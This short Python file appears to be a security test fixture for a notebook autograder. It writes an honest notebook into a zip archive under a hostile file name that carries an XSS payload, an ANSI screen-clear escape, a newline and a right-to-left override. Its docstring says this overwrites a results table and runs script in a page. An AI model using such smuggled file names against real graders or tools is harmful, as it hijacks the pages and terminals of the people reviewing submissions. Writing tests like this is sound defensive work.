"""Maker of an attack.

class: notebook, archive
tries: writes over the table, and runs in the page, by the name of a file in an archive
outcome: total 4, scaled 6
says: was found as 'sums/mine.zip/<img src=x onerror=alert(1)>[red]
"""

import zipfile
from pathlib import Path

import nbformat
from nbformat import NotebookNode

NAME = "<img src=x onerror=alert(1)>[red]\x1b[2J\n\u202e 1_sums.ipynb"


def hand_in(folder: Path, notebook: NotebookNode) -> None:
    """Hand in an honest notebook under that name."""
    with zipfile.ZipFile(folder / "mine.zip", "w") as archive:
        archive.writestr(NAME, nbformat.writes(notebook))
